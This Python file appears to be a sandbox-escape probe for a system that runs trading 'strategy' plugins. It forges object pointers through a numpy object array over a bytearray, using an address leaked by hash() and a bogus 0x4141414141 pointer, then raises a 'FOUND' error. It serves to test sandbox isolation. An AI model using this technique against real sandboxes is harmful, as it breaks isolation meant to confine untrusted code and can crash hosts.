"""The numpy object-dtype buffer escape: forge object pointers from bytes.

An object array over a bytearray reads whatever address the bytes hold as a
PyObject*. Addresses leak through hash() (a pointer rotated by 4 bits); this
forges one to an object the strategy should never hold, and, failing that, a
bogus one (a segfault when read).
"""

import numpy as np

from strategies import Strategy


class ObjectBuffer(Strategy):
    """Forges object pointers through an object array over a bytearray."""

    def signals(self, bars):
        h = hash(np.sum) & 0xFFFFFFFFFFFFFFFF
        addr = ((h << 4) | (h >> 60)) & 0xFFFFFFFFFFFFFFFF
        forged = np.ndarray((1,), dtype="O", buffer=bytearray(addr.to_bytes(8, "little")))
        found = forged[0]
        bogus = np.ndarray((1,), dtype="O", buffer=bytearray((0x4141414141).to_bytes(8, "little")))
        found = bogus[0]
        raise RuntimeError("FOUND: read a forged pointer " + repr(found))
